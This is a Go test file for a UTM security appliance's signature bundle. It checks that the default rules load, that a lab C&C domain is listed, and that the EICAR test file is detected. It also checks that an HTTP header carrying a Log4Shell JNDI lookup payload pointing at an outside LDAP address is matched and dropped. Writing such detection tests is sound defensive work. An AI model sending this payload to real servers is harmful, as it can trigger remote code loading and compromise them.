package bundle

import (
	"net/netip"
	"os"
	"path/filepath"
	"testing"

	"github.com/openutm/utm/signatures/rules"
)

func TestDefault(t *testing.T) {
	b, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	if len(b.RuleErrors) != 0 {
		t.Fatalf("default rules do not all load: %v", b.RuleErrors)
	}
	if b.Rules.Len() < 3 || b.AV.RuleCount < 1 || b.Intel.Len() < 300 {
		t.Fatalf("default bundle too small: rules %d yara %d intel %d", b.Rules.Len(), b.AV.RuleCount, b.Intel.Len())
	}
	if ind, ok := b.Intel.LookupDomain([]byte("cnc.utm-lab.test")); !ok || ind.Family != "utm-lab-test" {
		t.Fatalf("lab C&C domain missing: %v", ind)
	}
	eicar := []byte(`X5O!P%@AP[4\PZX54(P^)7CC)7}$` + `EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`)
	if r, err := b.AV.Scan(eicar); err != nil || !r.Malicious || r.Threat != "EICAR-Test-File" {
		t.Fatalf("EICAR not detected: %+v %v", r, err)
	}
	in := &rules.Input{Proto: 6, App: "http", ToServer: true, Established: true,
		Src: netip.MustParseAddr("198.18.1.2"), Dst: netip.MustParseAddr("198.18.2.2"), SrcPort: 40000, DstPort: 80}
	in.Buf[rules.BufHTTPHeader] = []byte("Host: x\r\nX-Api-Version: ${jndi:ldap://198.18.2.66/a}\r\n")
	m := b.Rules.Match(in, nil)
	if len(m) != 1 || m[0].SID != 2200001 || m[0].Action != rules.Drop {
		t.Fatalf("Log4Shell rule: matched %v", m)
	}
}

func TestReplaceRules(t *testing.T) {
	f := filepath.Join(t.TempDir(), "local.rules")
	os.WriteFile(f, []byte("alert http any any -> any any (msg:\"local\"; http.uri; content:\"/x\"; sid:9000001;)\nalert bogus\n"), 0o644)
	b, err := Load(Options{RuleFiles: []string{f}, NoDefaultRules: true})
	if err != nil {
		t.Fatal(err)
	}
	if b.Rules.Len() != 1 || len(b.RuleErrors) != 1 || b.RuleErrors[0].Line != 2 {
		t.Fatalf("rules %d errors %v", b.Rules.Len(), b.RuleErrors)
	}
	if _, err := Load(Options{RuleFiles: []string{"/nonexistent.rules"}}); err == nil {
		t.Fatal("a missing rule file must be an error")
	}
}
